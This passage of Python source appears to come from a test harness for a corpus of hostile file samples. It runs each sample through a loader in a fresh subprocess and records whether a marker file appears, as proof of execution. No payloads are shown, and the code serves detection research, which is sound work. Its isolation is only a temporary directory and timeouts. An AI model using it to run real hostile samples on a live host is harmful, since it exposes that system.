    time.sleep(spec.get("grace", 1.0))  # subprocesses some payloads start (touch) finish
    for item in spec["items"]:
        results[item["name"]]["executes"] = bool(item["marker"]) and os.path.exists(item["marker"])
    with open(out_path, "w") as f:
        json.dump(results, f, indent=1)


def measure_in_one_process(entries: Sequence[Entry], workdir: Optional[str] = None, timeout: float = 600,
                           grace: float = 1.0) -> Dict[str, dict]:
    """Load every non-heavy, marker-carrying file in one fresh process; {name: {executes, error, seconds}}."""
    import tempfile
    items = [dict(m, path=p) for p, m in entries if not m["heavy"] and m["executes"] is not None]
    for it in items:
        if it["marker"] and os.path.exists(it["marker"]):
            os.remove(it["marker"])
    with tempfile.TemporaryDirectory() as tmp:
        spec, out = os.path.join(tmp, "spec.json"), os.path.join(tmp, "out.json")
        with open(spec, "w") as f:
            json.dump({"items": items, "grace": grace}, f)
        prog = f"import sys; sys.path.insert(0, {HERE!r}); import hostile; hostile._measure_main({spec!r}, {out!r})"
        subprocess.run([sys.executable, "-c", prog], cwd=workdir or tmp, timeout=timeout,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
        with open(out) as f:
            return json.load(f)


def measure_one(path: str, meta: dict, timeout: float = 60, grace: float = 1.0) -> dict:
    """Load one file in its own fresh process (cwd a temporary folder); did its marker appear?"""
    import tempfile
    marker = meta.get("marker")
    if marker and os.path.exists(marker):
        os.remove(marker)
    prog = (f"import sys; sys.path[:0] = [{HERE!r}, {meta['corpus']!r}]; import hostile; "
            f"hostile.run_loader({meta['loader']!r}, {path!r})")
    t = time.monotonic()
    with tempfile.TemporaryDirectory() as tmp:
        try:
            r = subprocess.run([sys.executable, "-c", prog], cwd=tmp, timeout=timeout, capture_output=True, text=True)
            rc, err = r.returncode, (r.stderr.strip().splitlines() or [""])[-1][:160]
        except subprocess.TimeoutExpired:
            rc, err = None, f"timeout after {timeout}s"
    seconds = time.monotonic() - t
    return {"executes": _wait_marker(marker, grace), "rc": rc, "error": err if rc else None, "seconds": round(seconds, 2)}
